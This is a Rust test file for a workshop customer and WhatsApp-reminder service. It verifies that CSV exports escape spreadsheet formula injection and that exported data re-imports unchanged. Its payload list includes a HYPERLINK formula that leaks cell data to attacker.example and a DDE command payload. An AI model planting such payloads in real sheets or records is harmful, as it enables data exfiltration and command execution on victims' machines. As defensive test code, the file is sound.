//! Formula injection: names, notes and models that a spreadsheet would run, stored through
//! every way in (the API, the JSON bulk imports, xlsx and CSV sheets), come out of every CSV
//! export as text that cannot run, and an export imported into an empty store gives back
//! exactly the same records.

use crate::common;

use axum::http::{Method, StatusCode};
use bengkel::sheet::{self, Cell, Format, Table};
use common::{Backend, FileReply, TestApp};
use serde_json::{Value, json};

/// OWASP's CSV injection payloads, as a customer could be named.
const FORMULAS: [&str; 5] = [
    r#"=HYPERLINK("https://attacker.example/?d="&C2,"Klik")"#,
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
];
/// What a spreadsheet reads as the start of a formula in a CSV field.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const CSV: &str = "text/csv";

/// The payload for row `i` of a batch, and another one for its second text field.
fn payload(i: usize) -> (&'static str, &'static str) {
    (FORMULAS[i % 5], FORMULAS[(i + 1) % 5])
}

fn phone(i: usize) -> String {
    format!("0812345{i:05}")
}

async fn ok(app: &TestApp, method: Method, path: &str, body: Value) -> Value {
    let reply = app.call(method, path, Some(body)).await;
    assert!(reply.status.is_success(), "{path}: {}", reply.body);
    reply.body
}

async fn upload(app: &TestApp, path: &str, content_type: &str, file: Vec<u8>) {
    let reply = app.send_file(Method::POST, path, content_type, file).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.json());
    assert_eq!(reply.json()["data"]["failed"], 0, "{}", reply.json());
}

async fn download(app: &TestApp, path: &str) -> FileReply {
    let reply = app
        .send_file(Method::GET, path, "application/json", Vec::new())
        .await;
    assert_eq!(reply.status, StatusCode::OK);
    reply
}

/// A sheet of `headers` and `rows` of text, in `format`; the CSV written raw, as an attacker's
/// file would hold it (no apostrophes).
fn file(format: Format, headers: &[&'static str], rows: &[Vec<String>]) -> Vec<u8> {
    match format {
        Format::Xlsx => {
            let table = Table {
                name: "Data",
                headers: headers.to_vec(),
                rows: rows
                    .iter()
                    .map(|r| r.iter().map(|t| Cell::Text(t.clone())).collect())
                    .collect(),
            };
            sheet::write(&table, Format::Xlsx).unwrap()
        }
        Format::Csv => {
            let mut writer = csv::Writer::from_writer(Vec::new());
            writer.write_record(headers).unwrap();
            for row in rows {
                writer.write_record(row).unwrap();
            }
            writer.into_inner().unwrap()
        }
    }
}

/// Manual records named and noted with every payload: five through the API, five through the
/// JSON bulk import, five in an xlsx sheet and five in a CSV sheet.
async fn records_with_formulas(app: &TestApp) {
    for i in 0..5 {
        let (name, notes) = payload(i);
        let body = json!({"customer_name": name, "nopol": format!("B {} A", i + 1),
            "no_hp": phone(i), "notes": notes, "next_service": "2026-02-01"});
        ok(app, Method::POST, "/manual-whatsapp/", body).await;
    }
    let batch: Vec<Value> = (5..10)
        .map(|i| {
            let (name, notes) = payload(i);
            json!({"customer_name": name, "nopol": format!("D {} A", i + 1),
                "no_hp": phone(i), "notes": notes})
        })
        .collect();
    let answer = ok(
        app,
        Method::POST,
        "/manual-whatsapp/bulk-import",
        json!(batch),
    )
    .await;
    assert_eq!(answer["data"]["imported"], 5, "{answer}");
    for (start, format, content_type, letter) in
        [(10, Format::Xlsx, XLSX, "F"), (15, Format::Csv, CSV, "G")]
    {
        let rows: Vec<Vec<String>> = (start..start + 5)
            .map(|i| {
                let (name, notes) = payload(i);
                vec![
                    name.into(),
                    format!("{letter} {} A", i + 1),
                    phone(i),
                    notes.into(),
                ]
            })
            .collect();
        let sheet = file(format, &["Nama", "No Pol", "No HP", "Notes"], &rows);
        upload(
            app,
            "/manual-whatsapp/import?dry_run=false",
            content_type,
            sheet,
        )
        .await;
    }
}

/// Register customers named with every payload, each with a vehicle whose model is one: through
/// the API, the JSON bulk import, and both sheet formats.
async fn register_with_formulas(app: &TestApp) {
    let customer = |i: usize, letter: &str| {
        let (name, model) = payload(i);
        json!({"name": name, "no_hp": phone(i), "vehicles": [
            {"nopol": format!("{letter} {} B", i + 1), "model": model, "last_visit": "2025-10-01"}]})
    };
    for i in 0..5 {
        ok(app, Method::POST, "/customers", customer(i, "B")).await;
    }
    let batch: Vec<Value> = (5..10).map(|i| customer(i, "D")).collect();
    let answer = ok(app, Method::POST, "/customers/bulk-import", json!(batch)).await;
    assert_eq!(answer["data"]["imported"], 5, "{answer}");
    for (start, format, content_type, letter) in
        [(10, Format::Xlsx, XLSX, "F"), (15, Format::Csv, CSV, "G")]
    {
        let rows: Vec<Vec<String>> = (start..start + 5)
            .map(|i| {
                let (name, model) = payload(i);
                vec![
                    name.into(),
                    phone(i),
                    format!("{letter} {} B", i + 1),
                    model.into(),
                    "2025-10-01".into(),
                ]
            })
            .collect();
        let sheet = file(
            format,
            &["Nama", "No HP", "No Pol", "Model", "Last Visit"],
            &rows,
        );
        upload(app, "/customers/import?dry_run=false", content_type, sheet).await;
    }
}

/// The fields of a CSV file (after its byte-order mark), row by row, header included.
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap();
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

/// The cells of a CSV export a spreadsheet would run as formulas.
fn formula_cells(bytes: &[u8]) -> Vec<String> {
    csv_cells(bytes)
        .into_iter()
        .flatten()
        .filter(|cell| cell.starts_with(FORMULA_STARTS))
        .collect()
}

/// Asserts that `path`'s CSV holds no cell that could run, and each payload escaped `times`.
async fn assert_csv_export_is_inert(app: &TestApp, path: &str, times: usize) {
    let reply = download(app, &format!("{path}?format=csv")).await;
    let running = formula_cells(&reply.bytes);
    assert_eq!(
        running.len(),
        0,
        "{path}: {} formula-like cells: {running:?}",
        running.len()
    );
    let cells: Vec<String> = csv_cells(&reply.bytes).into_iter().flatten().collect();
    for formula in FORMULAS {
        let escaped = cells
            .iter()
            .filter(|c| **c == format!("'{formula}"))
            .count();
        assert_eq!(escaped, times, "{path}: {formula}");
    }
}

#[tokio::test]
async fn records_export_no_formula_and_reimport_unchanged() {
    let app = TestApp::new();
    records_with_formulas(&app).await;
    // A name that already starts with an apostrophe before a formula character keeps it.
    let body = json!({"customer_name": "'=1+1", "nopol": "H 1 A", "no_hp": phone(99),
        "notes": "''-"});
    ok(&app, Method::POST, "/manual-whatsapp/", body).await;
    let stored = common::imported_fields(&common::records_of(&app).await);
    assert_eq!(stored.len(), 21);
    let names: Vec<&str> = stored.iter().map(|r| r[0].as_str().unwrap()).collect();
    for formula in FORMULAS {
        assert_eq!(
            names.iter().filter(|n| **n == formula).count(),
            4,
            "{formula}"
        );
    }
    // Each payload is a name four times and a note four times.
    assert_csv_export_is_inert(&app, "/manual-whatsapp/export", 8).await;
    for (format, content_type) in [("csv", CSV), ("xlsx", XLSX)] {
        let reply = download(&app, &format!("/manual-whatsapp/export?format={format}")).await;
        let target = TestApp::new();
        upload(
            &target,
            "/manual-whatsapp/import?dry_run=false",
            content_type,
            reply.bytes,
        )
        .await;
        assert_eq!(
            common::imported_fields(&common::records_of(&target).await),
            stored,
            "{format}"
        );
    }
}

#[tokio::test]
async fn register_export_no_formula_and_reimport_unchanged() {
    let app = TestApp::new();
    register_with_formulas(&app).await;
    let stored = common::register_of(&app).await;
    assert_eq!(stored.len(), 20);
    // Each payload is a name four times and a model four times.
    assert_csv_export_is_inert(&app, "/customers/export", 8).await;
    for (format, content_type) in [("csv", CSV), ("xlsx", XLSX)] {
        let reply = download(&app, &format!("/customers/export?format={format}")).await;
        let target = TestApp::new();
        upload(
            &target,
            "/customers/import?dry_run=false",
            content_type,
            reply.bytes,
        )
        .await;
        assert_eq!(common::register_of(&target).await, stored, "{format}");
    }
}

#[tokio::test]
async fn report_export_no_formula() {
    let (app, _gateway) = common::with_gateway(Backend::Embedded, |_| {}).await;
    register_with_formulas(&app).await;
    // The register's reminders fill the report with the customers' names and models.
    app.clock.set("2026-01-29T10:30:00+07:00");
    let answer = ok(
        &app,
        Method::POST,
        "/customers/send-maintenance-reminder",
        json!({}),
    )
    .await;
    assert_eq!(answer["reminder_sent"], 20, "{answer}");
    assert_csv_export_is_inert(&app, "/whatsapp-report/export", 8).await;
}
